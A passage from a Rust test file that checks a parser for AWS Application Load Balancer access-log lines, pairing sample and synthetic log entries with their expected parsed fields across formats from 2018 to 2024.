            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 27,
        },
    );
}

/// Sample line 44 (logstash PR 257): HEAD 200, 27 fields.
#[test]
fn head_27_fields() {
    check(
        r##"https 2020-04-09T23:51:41.309191Z app/OJProdLoadBalancer/278a3c7472bb5054 63.143.42.244:23863 172.31.2.30:5001 0.002 0.217 0.000 200 200 448 348 "HEAD https://abc.com:443/packages/maldives HTTP/1.1" "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-south-1:855430014109:targetgroup/ABC-FrontEnd/8c8983a24851ee4a "Root=1-5e8fb50d-df9a95404831631626fb545e" "abc.com" "arn:aws:acm:ap-south-1:855430014109:certificate/e3fb2074-0c09-4be9-a32c-5c985e540144" 0 2020-04-09T23:51:41.090000Z "forward" "-" "-" "172.31.2.30:5001" "200""##,
        AlbRecord {
            kind: "https",
            time_us: 1586476301309191, // 2020-04-09T23:51:41.309191Z
            elb: "app/OJProdLoadBalancer/278a3c7472bb5054",
            client_ip: Some("63.143.42.244"),
            client_port: Some(23863),
            target_ip: Some("172.31.2.30"),
            target_port: Some(5001),
            request_processing_time: Some(0.002),
            target_processing_time: Some(0.217),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(448),
            sent_bytes: Some(348),
            request: "HEAD https://abc.com:443/packages/maldives HTTP/1.1",
            method: Some("HEAD"),
            url: Some("https://abc.com:443/packages/maldives"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-south-1:855430014109:targetgroup/ABC-FrontEnd/8c8983a24851ee4a"),
            trace_id: Some("Root=1-5e8fb50d-df9a95404831631626fb545e"),
            domain_name: Some("abc.com"),
            chosen_cert_arn: Some("arn:aws:acm:ap-south-1:855430014109:certificate/e3fb2074-0c09-4be9-a32c-5c985e540144"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1586476301090000), // 2020-04-09T23:51:41.090000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("172.31.2.30:5001"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 27,
        },
    );
}

/// Sample line 45 (honeyaws PR 33): 20-field 2018 line.
#[test]
fn twenty_fields_2018() {
    check(
        r##"http 2018-02-17T00:27:06.137534Z app/test-alb-2/f7ca0e3e37d2be5b 138.197.220.19:39159 172.31.58.138:80 0.000 0.001 0.000 404 404 470 726 "GET http://test-alb-2-1761877747.us-east-1.elb.amazonaws.com:80/favicon.ico HTTP/1.1" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.167 Safari/537.36" - - arn:aws:elasticloadbalancing:us-east-1:729997878290:targetgroup/test/58a0da13ddb64875 "Root=1-5a8776da-6a10cd6c6b28b4903311442a" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1518827226137534, // 2018-02-17T00:27:06.137534Z
            elb: "app/test-alb-2/f7ca0e3e37d2be5b",
            client_ip: Some("138.197.220.19"),
            client_port: Some(39159),
            target_ip: Some("172.31.58.138"),
            target_port: Some(80),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.001),
            response_processing_time: Some(0.0),
            elb_status_code: Some(404),
            target_status_code: Some(404),
            received_bytes: Some(470),
            sent_bytes: Some(726),
            request: "GET http://test-alb-2-1761877747.us-east-1.elb.amazonaws.com:80/favicon.ico HTTP/1.1",
            method: Some("GET"),
            url: Some("http://test-alb-2-1761877747.us-east-1.elb.amazonaws.com:80/favicon.ico"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.167 Safari/537.36"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-1:729997878290:targetgroup/test/58a0da13ddb64875"),
            trace_id: Some("Root=1-5a8776da-6a10cd6c6b28b4903311442a"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: None,
            request_creation_time_us: None,
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 20,
        },
    );
}

/// Sample line 46 (honeyaws PR 33): 21-field 2018 line (matched_rule_priority).
#[test]
fn twenty_one_fields_2018() {
    check(
        r##"http 2018-03-06T08:14:45.173955Z app/march-alb-test/74935cafb17aefcc 24.5.192.253:49846 172.31.58.138:80 0.000 0.001 0.000 404 404 437 726 "GET http://march-alb-test-1244652616.us-east-1.elb.amazonaws.com:80/todo:8080 HTTP/1.1" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.186 Safari/537.36" - - arn:aws:elasticloadbalancing:us-east-1:729997878290:targetgroup/ec2instances/3bf8bbb3ab2b6080 "Root=1-5a9e4df5-c94e2977b8672a6558261332" "-" "-" 0"##,
        AlbRecord {
            kind: "http",
            time_us: 1520324085173955, // 2018-03-06T08:14:45.173955Z
            elb: "app/march-alb-test/74935cafb17aefcc",
            client_ip: Some("24.5.192.253"),
            client_port: Some(49846),
            target_ip: Some("172.31.58.138"),
            target_port: Some(80),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.001),
            response_processing_time: Some(0.0),
            elb_status_code: Some(404),
            target_status_code: Some(404),
            received_bytes: Some(437),
            sent_bytes: Some(726),
            request: "GET http://march-alb-test-1244652616.us-east-1.elb.amazonaws.com:80/todo:8080 HTTP/1.1",
            method: Some("GET"),
            url: Some("http://march-alb-test-1244652616.us-east-1.elb.amazonaws.com:80/todo:8080"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.186 Safari/537.36"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-1:729997878290:targetgroup/ec2instances/3bf8bbb3ab2b6080"),
            trace_id: Some("Root=1-5a9e4df5-c94e2977b8672a6558261332"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: None,
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 21,
        },
    );
}

/// Sample line 47 (OTel, synthetic): bracketed IPv6 client and target.
#[test]
fn ipv6_bracketed() {
    check(
        r##"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 [fe80::202:b3ff:fe1e:8329]:443 [2001:db8::1]:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90"##,
        AlbRecord {
            kind: "https",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("fe80::202:b3ff:fe1e:8329"),
            client_port: Some(443),
            target_ip: Some("2001:db8::1"),
            target_port: Some(80),
            request_processing_time: Some(0.086),
            target_processing_time: Some(0.048),
            response_processing_time: Some(0.037),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(0),
            sent_bytes: Some(57),
            request: "GET https://www.example.com:443/ HTTP/1.1",
            method: Some("GET"),
            url: Some("https://www.example.com:443/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337281-1d84f3d73c47ec4e58577259"),
            domain_name: Some("www.example.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"),
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("authenticate,forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.0.1:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_1234abcd5678ef90"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 30,
        },
    );
}

/// Sample line 51 (azul): `\xf0\x9f\x98\x80` in URL and user agent.
#[test]
fn escaped_emoji_in_url_and_user_agent() {
    check(
        r##"https 2022-12-31T23:55:00.388951Z app/azul-gitlab-alb/c051f98624e68d7e 172.71.0.215:36056 172.71.0.215:80 0.000 0.002 0.000 204 204 963 229 "POST https://gitlab.dev.singlecell.gi.ucsc.edu:443/api/v4/jobs/request?chars=\xf0\x9f\x98\x80 HTTP/1.1" "gitlab-runner 15.6.1 (15-6-stable; go1.18.8; linux/amd64; \xf0\x9f\x98\x80)" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-1:122796619775:targetgroup/azul-gitlab-http/136c2d6db59941f6 "Root=1-63b0cbd4-7d218b82786295005dbf8b6d" "gitlab.dev.singlecell.gi.ucsc.edu" "arn:aws:acm:us-east-1:122796619775:certificate/81241b8e-c875-4a22-a30e-58003ee139ae" 0 2022-12-31T23:55:00.386000Z "forward" "-" "-" "172.71.0.215:80" "204" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1672530900388951, // 2022-12-31T23:55:00.388951Z
            elb: "app/azul-gitlab-alb/c051f98624e68d7e",
            client_ip: Some("172.71.0.215"),
            client_port: Some(36056),
            target_ip: Some("172.71.0.215"),
            target_port: Some(80),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.002),
            response_processing_time: Some(0.0),
            elb_status_code: Some(204),
            target_status_code: Some(204),
            received_bytes: Some(963),
            sent_bytes: Some(229),
            request: r#"POST https://gitlab.dev.singlecell.gi.ucsc.edu:443/api/v4/jobs/request?chars=\xf0\x9f\x98\x80 HTTP/1.1"#,
            method: Some("POST"),
            url: Some(r#"https://gitlab.dev.singlecell.gi.ucsc.edu:443/api/v4/jobs/request?chars=\xf0\x9f\x98\x80"#),
            protocol: Some("HTTP/1.1"),
            user_agent: Some(r#"gitlab-runner 15.6.1 (15-6-stable; go1.18.8; linux/amd64; \xf0\x9f\x98\x80)"#),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-1:122796619775:targetgroup/azul-gitlab-http/136c2d6db59941f6"),
            trace_id: Some("Root=1-63b0cbd4-7d218b82786295005dbf8b6d"),
            domain_name: Some("gitlab.dev.singlecell.gi.ucsc.edu"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-1:122796619775:certificate/81241b8e-c875-4a22-a30e-58003ee139ae"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1672530900386000), // 2022-12-31T23:55:00.386000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("172.71.0.215:80"),
            target_status_code_list: Some("204"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Synthetic (built from the field rules; no public sample): plain `fixed-response` 404, target `-`.
#[test]
fn fixed_response_synthetic() {
    check(
        r##"http 2024-03-01T10:00:00.000001Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 -1 -1 404 - 120 256 "GET http://www.example.com:80/nope HTTP/1.1" "curl/8.5.0" - - - "Root=1-65e1a7c0-0123456789abcdef01234567" "-" "-" 3 2024-03-01T10:00:00.000000Z "fixed-response" "-" "-" "-" "-" "-" "-" TID_0123456789abcdef "-" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1709287200000001, // 2024-03-01T10:00:00.000001Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: None,
            target_port: None,
            request_processing_time: Some(0.0),
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(404),
            target_status_code: None,
            received_bytes: Some(120),
            sent_bytes: Some(256),
            request: "GET http://www.example.com:80/nope HTTP/1.1",
            method: Some("GET"),
            url: Some("http://www.example.com:80/nope"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/8.5.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: None,
            trace_id: Some("Root=1-65e1a7c0-0123456789abcdef01234567"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(3),
            request_creation_time_us: Some(1709287200000000), // 2024-03-01T10:00:00.000000Z
            actions_executed: Some("fixed-response"),
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_0123456789abcdef"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 33,
        },
    );
}

/// Synthetic: h2 `000` (GOAWAY), bracketed IPv6, rule priority -1, leap day.
#[test]
fn goaway_000_ipv6_synthetic() {
    check(
        r##"h2 2024-02-29T23:59:59.999999Z app/my-loadbalancer/50dc6c495c0c9188 [2001:db8::7]:50000 [2001:db8:1::2]:8443 0.001 0.010 -1 000 - 1200 0 "POST https://[2001:db8::1]:443/upload HTTP/2.0" "okhttp/4.11.0" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-65e1a7c0-0123456789abcdef01234568" "api.example.com" "session-reused" -1 2024-02-29T23:59:58.500000Z "forward" "-" "-" "[2001:db8:1::2]:8443" "-" "-" "-" TID_0123456789abcdef "-" "-" "-""##,
        AlbRecord {
            kind: "h2",
            time_us: 1709251199999999, // 2024-02-29T23:59:59.999999Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("2001:db8::7"),
            client_port: Some(50000),
            target_ip: Some("2001:db8:1::2"),
            target_port: Some(8443),
            request_processing_time: Some(0.001),
            target_processing_time: Some(0.01),
            response_processing_time: None,
            elb_status_code: Some(0),
            target_status_code: None,
            received_bytes: Some(1200),
            sent_bytes: Some(0),
            request: "POST https://[2001:db8::1]:443/upload HTTP/2.0",
            method: Some("POST"),
            url: Some("https://[2001:db8::1]:443/upload"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some("okhttp/4.11.0"),
            ssl_cipher: Some("TLS_AES_128_GCM_SHA256"),
            ssl_protocol: Some("TLSv1.3"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-65e1a7c0-0123456789abcdef01234568"),
            domain_name: Some("api.example.com"),
            chosen_cert_arn: Some("session-reused"),
            matched_rule_priority: Some(-1),
            request_creation_time_us: Some(1709251198500000), // 2024-02-29T23:59:58.500000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("[2001:db8:1::2]:8443"),
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_0123456789abcdef"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 33,
        },
    );
}

/// Sample line 32 plus a 34th token (LB node IP, reported 2026): ignored, counted.
#[test]
fn extra_fields_34() {
    check(
        r##"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90 "m.example.com" "-" "TransformSuccess" 10.0.0.5"##,
        AlbRecord {
            kind: "https",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: Some("10.0.0.1"),
            target_port: Some(80),
            request_processing_time: Some(0.086),
            target_processing_time: Some(0.048),
            response_processing_time: Some(0.037),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(0),
            sent_bytes: Some(57),
            request: "GET https://www.example.com:443/ HTTP/1.1",
            method: Some("GET"),
            url: Some("https://www.example.com:443/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337281-1d84f3d73c47ec4e58577259"),
            domain_name: Some("www.example.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"),
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("authenticate,forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.0.1:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_1234abcd5678ef90"),
            transformed_host: Some("m.example.com"),
            transformed_uri: None,
            request_transform_status: Some("TransformSuccess"),
            field_count: 34,
        },
    );
}

/// Sample line 32 plus `10.0.0.5 "-" "-"`: 36 tokens.
#[test]
fn extra_fields_36() {
    check(
        r##"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90 "m.example.com" "-" "TransformSuccess" 10.0.0.5 "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: Some("10.0.0.1"),
            target_port: Some(80),
            request_processing_time: Some(0.086),
            target_processing_time: Some(0.048),
            response_processing_time: Some(0.037),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(0),
            sent_bytes: Some(57),
            request: "GET https://www.example.com:443/ HTTP/1.1",
            method: Some("GET"),
            url: Some("https://www.example.com:443/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337281-1d84f3d73c47ec4e58577259"),
            domain_name: Some("www.example.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"),
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("authenticate,forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.0.1:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_1234abcd5678ef90"),
            transformed_host: Some("m.example.com"),
            transformed_uri: None,
            request_transform_status: Some("TransformSuccess"),
            field_count: 36,
        },
    );
}
